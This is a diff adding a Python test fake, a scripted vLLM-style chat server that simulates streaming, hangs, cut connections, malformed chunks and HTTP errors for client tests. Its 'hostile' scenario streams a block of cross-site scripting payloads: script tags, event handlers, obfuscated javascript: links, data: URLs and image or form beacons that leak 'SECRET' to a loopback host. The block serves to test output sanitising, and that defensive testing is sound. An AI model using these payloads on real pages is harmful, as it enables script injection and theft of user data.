@@ -1,0 +1,325 @@
+"""A scripted model server: speaks vLLM's HTTP, says what its script says, misbehaves on request, records everything.
+
+The misbehaviour is picked by the model's name or, where that is no scenario, by `play:NAME` in the question. In a test:
+`async with ScriptedModel() as model:`. By hand: `python -m tests.fakes --port 9001`.
+"""
+
+import argparse
+import asyncio
+import json
+import re
+from collections.abc import AsyncIterator, Callable
+from dataclasses import dataclass, field
+from typing import Any
+
+REASONING = "The question is about a test . It is answered in a few words . "
+ANSWER = "Ibuprofen can raise blood pressure . Ask before you take it . "
+LONG = "".join(f"word{n} " for n in range(400))
+MARKDOWN = """\
+## Warning signs
+
+- **Chest pain** or shortness of breath: call for help.
+
+| Drug | Dose |
+| --- | --- |
+| Ibuprofen | 400 mg every 8 h |
+
+The clearance is $\\frac{(140-67) \\times 70}{72 \\times 1.1}$ mL/min, so
+
+$$ C = 64.5\\ \\text{mL/min} $$
+
+1. Check the potassium.
+2. Check it again.
+
+```
+code stays code
+```
+"""
+BOXED = "Step by step: 20 mg/kg times 15 kg is 300 mg. The result is \\boxed{300\\ \\text{mg}}."
+HOSTILE = """\
+<script>window.hit = 1; alert(1)</script><img src="http://127.0.0.1:9/?q=SECRET" onerror="alert(2)">
+<svg onload="alert(3)"></svg><iframe srcdoc="<script>alert(4)</script>"></iframe><style>body{display:none}</style>
+<form action="http://127.0.0.1:9/"><button>x</button></form><math><mtext><img src=x onerror=alert(5)></mtext></math>
+
+[one](javascript:alert(6)) [two](JaVaScRiPt:alert(7)) [three](data:text/html,<script>alert(8)</script>)
+![pixel](http://127.0.0.1:9/?q=SECRET) ![ref][pic] [four](java&#115;cript:alert(9))
+
+[pic]: http://127.0.0.1:9/ref?q=SECRET
+
+$\\href{javascript:alert(10)}{x}$ $\\url{javascript:alert(11)}$ $\\includegraphics{http://127.0.0.1:9/tex}$ \u202etxet desrever
+"""
+
+Token = tuple[str, str]
+
+
+def words(kind: str, text: str) -> list[Token]:
+    """The text in word-sized tokens."""
+    return [(kind, word) for word in re.findall(r"\S*\s+|\S+", text)]
+
+
+SCRIPT = [*words("reasoning", REASONING), *words("text", ANSWER)]
+
+
+@dataclass
+class Scenario:
+    """`tokens` are said with `pause` seconds between; after `fault_after` of them `fault` happens, `faults` times."""
+
+    tokens: list[Token] = field(default_factory=lambda: SCRIPT)
+    pause: float = 0.0
+    finish: str | None = "stop"
+    status: int = 200
+    fault: str = ""
+    fault_after: int = 5
+    faults: int = 10**9
+    raw: bool = False
+
+
+SCENARIOS: dict[str, Scenario] = {
+    "steady": Scenario(pause=0.02),
+    "slow": Scenario([*words("reasoning", REASONING), *words("text", LONG)], pause=0.05),
+    "fast": Scenario(),
+    "markdown": Scenario([*words("reasoning", REASONING), *words("text", MARKDOWN)], pause=0.02),
+    "boxed": Scenario([*words("reasoning", REASONING), *words("text", BOXED)], pause=0.01),
+    "hostile": Scenario([*words("reasoning", HOSTILE), *words("text", HOSTILE)], pause=0.005),
+    "raw": Scenario(raw=True, pause=0.005),
+    "length": Scenario(finish="length"),
+    "thinks": Scenario(words("reasoning", REASONING), finish="length"),
+    "empty": Scenario([]),
+    "endless": Scenario(words("text", LONG) * 2000),
+    "hang_before_headers": Scenario(fault="hang", fault_after=-1),
+    "hang_mid": Scenario(fault="hang"),
+    "engine_error": Scenario(fault="engine_error", pause=0.01),
+    "cut": Scenario(fault="cut", pause=0.01),
+    "breaks_once": Scenario(fault="engine_error", faults=1, pause=0.01),
+    "breaks_twice": Scenario(fault="cut", fault_after=14, faults=2, pause=0.01),
+    "early_end": Scenario(fault="early_end"),
+    "done_only": Scenario(finish=None),
+    "truncated": Scenario(fault="truncated"),
+    "number": Scenario(fault="number"),
+    "odd": Scenario(fault="odd"),
+    "html": Scenario(fault="html", fault_after=-1),
+    "redirect": Scenario(status=302),
+    "error_500": Scenario(status=500),
+    "error_400": Scenario(status=400),
+    "busy_once": Scenario(status=503, faults=1),
+}
+
+
+class ScriptedModel:
+    """Listens on 127.0.0.1. `requests` are the chat requests so far; `running` those being answered."""
+
+    def __init__(self, *, port: int = 0, name: str = "scripted", plain: bool = False, context: int = 4096) -> None:
+        self.name, self.plain, self.context = name, plain, context
+        self.requests: list[dict[str, Any]] = []
+        self.running = 0
+        self._port = port
+        self._faults: dict[str, int] = {}
+        self._connections: set[asyncio.Task[None]] = set()
+
+    async def __aenter__(self) -> "ScriptedModel":
+        self._server = await asyncio.start_server(self._connected, "127.0.0.1", self._port)
+        self._port = self._server.sockets[0].getsockname()[1]
+        return self
+
+    async def __aexit__(self, *_: object) -> None:
+        await self.stop()
+
+    async def stop(self) -> None:
+        """As if killed: every connection is cut."""
+        self._server.close()
+        for task in self._connections:
+            task.cancel()
+        await asyncio.gather(*self._connections, return_exceptions=True)
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self._port}/v1"
+
+    async def _connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        task = asyncio.current_task()
+        assert task
+        self._connections.add(task)
+        try:
+            while await self._serve(reader, writer):
+                pass
+        except (ConnectionError, asyncio.IncompleteReadError):
+            pass
+        finally:
+            self._connections.discard(task)
+            writer.close()
+
+    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
+        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
+        method, path, _ = head.split(" ", 2)
+        length = re.search(r"content-length: *(\d+)", head, re.I)
+        body = json.loads(await reader.readexactly(int(length.group(1)))) if length else {}
+        if (method, path) == ("POST", "/v1/chat/completions"):
+            return await self._chat(body, reader, writer)
+        answers: dict[str, Callable[[], dict[str, Any]]] = {
+            "/v1/models": lambda: {"data": [{"id": self.name, "max_model_len": self.context}]},
+            "/health": dict,
+            "/stats": lambda: {"requests": self.requests, "running": self.running},
+        }
+        if not self.plain:
+            answers["/tokenize"] = lambda: {"count": _count(body), "max_model_len": self.context}
+            answers["/tokenizer_info"] = lambda: {"added_tokens_decoder": {"7": {"content": "<|secret_marker|>"}}}
+        found = answers.get(path)
+        await _reply(writer, 200 if found else 404, found() if found else {"error": "Not Found"})
+        return True
+
+    async def _chat(self, body: dict[str, Any], reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
+        self.requests.append(body)
+        name = self._scenario(body)
+        scenario = SCENARIOS[name]
+        faulty = self._faults.setdefault(_key(body), scenario.faults) > 0
+        if faulty and (scenario.fault or scenario.status != 200):
+            self._faults[_key(body)] -= 1
+        if scenario.status != 200 and faulty:
+            await _reply(writer, scenario.status, {"error": {"message": "no", "code": scenario.status}})
+            return True
+        self.running += 1
+        gone = asyncio.create_task(reader.read(1))
+        say = asyncio.create_task(self._say(scenario, body, writer, scenario.fault if faulty else ""))
+        try:
+            await asyncio.wait([gone, say], return_when=asyncio.FIRST_COMPLETED)
+            if say.done():
+                say.result()
+        finally:
+            self.running -= 1
+            gone.cancel()
+            say.cancel()
+        return False
+
+    def _scenario(self, body: dict[str, Any]) -> str:
+        if body["model"] in SCENARIOS:
+            return str(body["model"])
+        asked = re.findall(r"play:(\w+)", " ".join(message["content"] for message in body["messages"]))
+        return asked[-1] if asked and asked[-1] in SCENARIOS else "steady"
+
+    async def _say(self, scenario: Scenario, body: dict[str, Any], writer: asyncio.StreamWriter, fault: str) -> None:
+        if fault == "html":
+            await _reply(writer, 200, b"<html>maintenance</html>", "text/html")
+            return
+        if fault == "hang" and scenario.fault_after < 0:
+            await asyncio.sleep(3600)
+        if not body.get("stream"):
+            await _reply(writer, 200, _whole(scenario))
+            return
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
+        said = 0
+        async for chunk in self._chunks(scenario, body, fault):
+            if fault and said == scenario.fault_after and await _misbehave(fault, writer):
+                return
+            _event(writer, chunk)
+            await writer.drain()
+            said += 1
+        _event(writer, b"[DONE]")
+        writer.write(b"0\r\n\r\n")
+        await writer.drain()
+
+    async def _chunks(self, scenario: Scenario, body: dict[str, Any], fault: str) -> AsyncIterator[bytes]:
+        yield _chunk({"role": "assistant", "content": ""})
+        tokens = _remaining(scenario.tokens, body)
+        opened = not scenario.raw
+        for kind, text in tokens:
+            if scenario.pause:
+                await asyncio.sleep(scenario.pause)
+            if kind == "reasoning":
+                yield _chunk({"content" if scenario.raw else "reasoning": text})
+            else:
+                prefix, opened = ("" if opened else "</think>"), True
+                yield _chunk({"content": prefix + text})
+        yield _chunk({}, scenario.finish)
+        yield json.dumps({"choices": [], "usage": {"prompt_tokens": _count(body), "completion_tokens": len(tokens)}}).encode()
+
+
+def _key(body: dict[str, Any]) -> str:
+    """The same question, however far its answer has come."""
+    return json.dumps([message for message in body["messages"] if message["role"] == "user"])
+
+
+def _remaining(tokens: list[Token], body: dict[str, Any]) -> list[Token]:
+    """What is still to be said, where the request goes on with an answer."""
+    last = body["messages"][-1]
+    if last["role"] != "assistant":
+        return tokens
+    said = last["content"].removeprefix("<think>\n").replace("</think>", "")
+    rest, text = list(tokens), ""
+    while rest and len(text) < len(said):
+        text += rest.pop(0)[1]
+    assert text == said, "the answer goes on from a text that was never said"
+    return rest
+
+
+async def _misbehave(fault: str, writer: asyncio.StreamWriter) -> bool:
+    """Whether that was the end of it."""
+    if fault == "hang":
+        await asyncio.sleep(3600)
+    elif fault == "engine_error":
+        _event(writer, b'{"error":{"message":"EngineCore encountered an issue.","type":"InternalServerError","code":500}}')
+        _event(writer, b"[DONE]")
+        writer.write(b"0\r\n\r\n")
+    elif fault == "truncated":
+        _event(writer, b'{"choices":[{"delta":{"conte')
+        writer.write(b"0\r\n\r\n")
+    elif fault == "number":
+        _event(writer, b'{"choices":[{"delta":{"content":42}}]}')
+    elif fault == "early_end":
+        writer.write(b"0\r\n\r\n")
+    elif fault == "odd":
+        for odd in (b'{"choices":[{"delta":null}]}', b'{"choices":[]}', b'{"choices":[{"delta":{"content":null}}]}'):
+            _event(writer, odd)
+        return False
+    elif fault == "cut":
+        await writer.drain()
+        writer.transport.abort()
+        return True
+    await writer.drain()
+    return True
+
+
+def _count(body: dict[str, Any]) -> int:
+    """Four characters a token, ten for each message."""
+    return sum(10 + len(message["content"]) // 4 for message in body.get("messages", []))
+
+
+def _chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
+    return json.dumps({"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}).encode()
+
+
+def _whole(scenario: Scenario) -> dict[str, Any]:
+    said = {kind: "".join(text for k, text in scenario.tokens if k == kind) for kind in ("reasoning", "text")}
+    message = {"role": "assistant", "reasoning": said["reasoning"], "content": said["text"]}
+    return {
+        "id": "x", "object": "chat.completion", "created": 0, "model": "scripted",
+        "choices": [{"index": 0, "message": message, "finish_reason": scenario.finish}],
+        "usage": {"prompt_tokens": 1, "completion_tokens": len(scenario.tokens), "total_tokens": 1},
+    }  # fmt: skip
+
+
+def _event(writer: asyncio.StreamWriter, data: bytes) -> None:
+    line = b"data: " + data + b"\n\n"
+    writer.write(b"%x\r\n%s\r\n" % (len(line), line))
+
+
+async def _reply(writer: asyncio.StreamWriter, status: int, body: Any, kind: str = "application/json") -> None:
+    data = body if isinstance(body, bytes) else json.dumps(body).encode()
+    head = f"HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nContent-Length: {len(data)}\r\n"
+    writer.write(head.encode() + (b"Location: /elsewhere\r\n" if status == 302 else b"") + b"\r\n" + data)
+    await writer.drain()
+
+
+async def _main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--port", type=int, default=9001)
+    parser.add_argument("--name", default="scripted")
+    parser.add_argument("--plain", action="store_true", help="no /tokenize: an engine that is plain OpenAI")
+    parser.add_argument("--seconds", type=float, default=3600, help="end after this long")
+    options = parser.parse_args()
+    async with ScriptedModel(port=options.port, name=options.name, plain=options.plain) as model:
+        print(model.url, flush=True)
+        await asyncio.sleep(options.seconds)
+
+
+if __name__ == "__main__":
+    asyncio.run(_main())
